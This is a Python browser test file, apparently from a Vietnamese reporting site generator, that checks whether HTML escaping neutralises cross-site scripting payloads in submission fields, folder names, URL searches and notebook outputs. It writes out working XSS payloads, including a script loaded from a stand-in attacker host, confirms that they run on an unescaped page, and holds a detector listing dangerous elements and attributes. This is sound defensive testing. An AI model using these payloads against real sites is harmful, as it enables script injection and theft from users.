"""Attacks in every text of a submission, opened in a browser. In: pages made of them. Out: nothing; what runs fails.

Pages are opened with their security policy set aside: what stands between an attack and the reader here is the escaping
of the text alone. That the policy would stop it as well is told by test_alone.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable
from itertools import pairwise
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from cchc.errors import SubmissionError
from cchc.errors import shown as quote
from cchc.export.html import render_html
from cchc.raw.submission import read_submission
from cchc.site.entry import window_of
from cchc.site.matrix import Submitted
from cchc.site.pages import gather, site_pages
from tests.browser.hostile import file_names, named
from tests.browser.opened import open_details, opened
from tests.browser.payloads import HOST, PAYLOADS, REFUSED
from tests.conftest import make_submission
from tests.export.html_sample import display, notebook, report_blocks
from tests.export.site_sample import entry

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

    from tests.browser.conftest import Project

# What a file of HTML may not hold is shown as this: controls, and the marks that turn the direction of a text.
NOT_SHOWN = re.compile("[\x01\x08\u202e\u202c\u2066\u2069]")
REPLACEMENT = "\ufffd"

# Fields of a submission that the report prints, and those that the page of changes prints as well.
# The unit's name as given (ten_in) is printed only as far as it reads like a name.
PRINTED = [
    "kinh_gui", "noi_nhan.ten", "noi_nhan.ghi_chu", "noi_dung",
    *(f"van_ban.{key}" for key in ("so", "ky_hieu", "dia_danh")),
    *(f"nguoi_ky.{key}" for key in ("quyen_han", "chuc_vu", "ho_ten")),
    *(f"cat_giam.{column}" for column in ("stt", "ten_tthc", "thoi_gian_quy_dinh", "thoi_gian_sau_cat_giam",
                                          "ty_le_cat_giam", "van_ban", "ghi_chu")),
    *(f"phu_luc.{column}" for column in ("stt", "chi_tieu", "don_vi_tinh", "so_lieu", "ghi_chu")),
    *(f"van_ban.{column}" for column in ("loai", "so_ky_hieu", "ngay", "co_quan", "trich_yeu")),
    *(f"dieu_chinh.{key}" for key in ("bang", "ly_do", "nguoi", "ngay")),
    *(f"chap_nhan.{key}" for key in ("quy_tac", "khoa", "ly_do", "nguoi", "ngay")),
    "so_lieu.gia_tri",
]  # fmt: skip
COMPARED = ["cat_giam.stt", "cat_giam.ten_tthc", "phu_luc.chi_tieu", "so_lieu.gia_tri", "van_ban.ngay"]

# Everything on a page that runs, loads, or leads away. The site's own script and its form for searching are counted.
DANGERS = """() => {
    const bad = [];
    const elements = "iframe,frame,object,embed,base,link,applet,template,noscript,audio,video,source,portal,math," +
        "foreignObject,animate,set,image,marquee,textarea,isindex,xss,input[type=image]";
    for (const one of document.querySelectorAll(elements)) bad.push(one.outerHTML.slice(0, 200));
    for (const one of document.querySelectorAll("meta[http-equiv]"))
        if (one.httpEquiv !== "Content-Security-Policy") bad.push(one.outerHTML);
    for (const one of document.querySelectorAll("*"))
        for (const { name, value } of one.attributes) {
            const leads = ["href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"].includes(name);
            const harmless = /^(#|data:text\\/csv|data:image\\/(png|jpeg|gif|svg\\+xml);base64,|https?:|mailto:|(\\.\\.\\/)*[^:]*$)/;
            if (name.startsWith("on") || ["style", "srcdoc", "ping", "background"].includes(name)
                || leads && !harmless.test(value)) bad.push(`${name}=${value.slice(0, 100)}`);
        }
    return {
        bad,
        own: ["script", "style", "form", "meta"].map(name => document.querySelectorAll(name).length),
    };
}"""
TEXT = """() => {
    for (const one of document.querySelectorAll("br")) one.replaceWith(" ");
    return document.body.textContent;
}"""


def shown(text: str) -> str:
    """A text as a page shows it: in NFC, its white space folded, a sign for what no page may hold."""
    return NOT_SHOWN.sub(REPLACEMENT, " ".join(unicodedata.normalize("NFC", text).split()))


def quoted(text: str) -> str:
    """A text as a message on a cell quotes it: what nobody sees as code points, so that it can be found and mended."""
    return shown(quote(text))


def missing(page: Page, texts: Iterable[str]) -> list[str]:
    """Those of the texts that do not stand on the page as the characters that they are, or as a message quotes them."""
    found = " ".join(unicodedata.normalize("NFC", page.evaluate(TEXT)).split())
    return [text for text in texts if shown(text) not in found and quoted(text) not in found]


def changed(page: Page) -> list[str]:
    """What stands before the name of a field and is no payload, but for its white space and the size of its letters.

    In a text of noi_dung.yaml a key in braces is the number, and what else stands in braces is as it was typed.
    """
    found = bare(unicodedata.normalize("NFC", page.evaluate(TEXT))).split(bare(named("", "")))
    whole = tuple(bare(form(payload)) for payload in PAYLOADS for form in (shown, quoted))
    live = tuple(text.replace("{ho_so.tiep_nhan}", bare("chưa có số liệu")) for text in whole)
    right = {True: (*whole, *live), False: whole}
    return [text[-80:] for text, field in pairwise(found) if not text.endswith(right[field.startswith("noi_dung")])]


def bare(text: str) -> str:
    return "".join(text.split()).casefold()


def use(page: Page) -> None:
    """Do what a reader does: unfold, scroll, point, tab, open a source."""
    open_details(page)
    page.mouse.move(300, 300)
    page.mouse.wheel(0, 3000)
    for _ in range(20):
        page.keyboard.press("Tab")
    page.evaluate("document.querySelector('[popover]')?.showPopover()")


def check_harmless(browser: Browser, path: Path, own: list[int], texts: Iterable[str]) -> None:
    """Open the page without its policy: nothing runs, nothing is asked for, nothing is there but words."""
    with opened(browser, path, bypass_csp=True) as one:
        use(one.page)
        assert one.unasked == []
        assert one.page.evaluate(DANGERS) == {"bad": [], "own": own}
        assert missing(one.page, texts) == []


# Three of them run as soon as the page is open, two ask for something.
WORKING = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<SCRIPT SRC=//tan-cong.invalid/a.js></SCRIPT>",
    "<img src=//tan-cong.invalid/a.png>",
]


def test_the_attacks_work_where_nothing_stops_them(browser: Browser, tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    assert set(WORKING) < set(PAYLOADS)
    ran, asked = 0, 0
    for payload in WORKING:
        path.write_text(f"<!DOCTYPE html><body><p>{payload}</p>", encoding="utf-8")
        with opened(browser, path, bypass_csp=True) as one:
            one.page.wait_for_timeout(30)
            ran += bool(one.dialogs)
            asked += any(HOST in address for address in one.asked)
    assert (ran, asked) == (3, 2)


def test_no_field_of_a_submission_attacks_its_report(browser: Browser, project: Project) -> None:
    texts = [named(payload, field) for field in PRINTED for payload in PAYLOADS]
    check_harmless(browser, project.report("hostile"), [1, 1, 0, 4], [*texts, *file_names()])


def test_wherever_a_report_prints_a_text_it_prints_the_characters_of_it(browser: Browser, project: Project) -> None:
    with opened(browser, project.report("hostile")) as one:
        assert len(re.findall("¦", one.page.evaluate(TEXT))) > 5000
        assert changed(one.page) == []


def test_no_field_of_a_submission_attacks_the_page_of_changes(browser: Browser, project: Project) -> None:
    texts = [named(payload, field) for field in COMPARED for payload in PAYLOADS]
    check_harmless(browser, project.report("hostile", "thay-doi.html"), [0, 1, 0, 4], texts)


def test_no_name_in_a_manifest_or_of_a_folder_attacks_the_index_or_a_province(browser: Browser, tmp_path: Path) -> None:
    window = window_of(2024, "nam")
    entries = [
        entry("15976", named(text, "xa"), district=named(text, "huyen"), folder=f"2024/nam/{named(text, 'thu_muc')}")
        for text in PAYLOADS
    ]
    abroad = [entry("15976", province=named(text, "tinh")) for text in PAYLOADS]
    waiting = [Submitted(window, "15976", named(text, "cho_lap")) for text in PAYLOADS]
    unread = [named(text, "khong_doc") for text in PAYLOADS]
    fields = ("xa", "huyen")
    for entries_shown, place, more in (
        ([*entries, *abroad], "index.html", ("khong_doc", "tinh")), (entries, "tinh/thanh-hoa.html", ()),
    ):  # fmt: skip
        path = tmp_path / place
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(site_pages(gather(entries_shown, waiting, unread))[place])
        texts = [named(text, field) for field in (*fields, *more) for text in PAYLOADS]
        with opened(browser, path, bypass_csp=True, java_script_enabled=False) as one:
            assert missing(one.page, texts) == []
        check_harmless(browser, path, [1, 1, int(place == "index.html"), 4], [])


def test_no_folder_name_attacks_the_list_of_what_waits_for_its_report(browser: Browser, tmp_path: Path) -> None:
    waiting = [Submitted(window_of(2024, "nam"), "15976", named(text, "cho_lap")) for text in PAYLOADS]
    path = tmp_path / "index.html"
    path.write_bytes(site_pages(gather([], waiting))["index.html"])
    check_harmless(browser, path, [1, 1, 0, 4], [named(text, "cho_lap") for text in PAYLOADS])


def test_no_search_in_the_address_attacks_the_index(browser: Browser, project: Project) -> None:
    with opened(browser, project.pages["index"], bypass_csp=True) as one:
        for payload in PAYLOADS:
            one.page.evaluate(
                "text => { location.hash = new URLSearchParams({ q: text, tinh: text, ky: text, tt: text }); }", payload
            )
        one.page.wait_for_timeout(100)
        assert one.page.locator("input[type=search]").input_value() != ""
        assert one.unasked == []
        assert one.page.evaluate(DANGERS) == {"bad": [], "own": [1, 1, 1, 4]}


def test_nothing_that_a_cell_of_the_notebook_puts_out_runs(browser: Browser, tmp_path: Path) -> None:
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

    cells = [
        cell
        for text in PAYLOADS
        for cell in (
            new_markdown_cell(text),
            new_markdown_cell(f"# {text}\n\n- [x]({text}) ![x]({text})"),
            new_code_cell("x", outputs=[display({"text/html": text}), display({"text/markdown": text})]),
            new_code_cell("x", outputs=[new_output("stream", name="stdout", text=named(text, "in_ra"))]),
            new_code_cell("x", outputs=[new_output("error", ename="X", evalue=named(text, "loi"), traceback=[])]),
            new_code_cell("x", outputs=[display({"image/svg+xml": f"<svg xmlns='x'>{text}</svg>"})]),
        )
    ]
    path = tmp_path / "page.html"
    path.write_text(render_html(notebook(report_blocks(), *cells)), encoding="utf-8")
    texts = [named(text, field) for field in ("in_ra", "loi") for text in PAYLOADS]
    with opened(browser, path, bypass_csp=True) as one:
        use(one.page)
        assert one.dialogs == []
        assert [address for address in one.asked if HOST in address] == []
        assert one.page.evaluate(DANGERS)["bad"] == []
        assert missing(one.page, texts) == []


@pytest.mark.parametrize("content", REFUSED)
def test_a_file_with_null_bytes_or_a_broken_encoding_is_refused(tmp_path: Path, content: bytes) -> None:
    folder = make_submission(tmp_path, files={"van_ban.csv": b"muc,loai,so_ky_hieu,ngay,co_quan,trich_yeu\n" + content})
    with pytest.raises(SubmissionError, match="van_ban.csv.*UTF-8"):
        read_submission(folder)
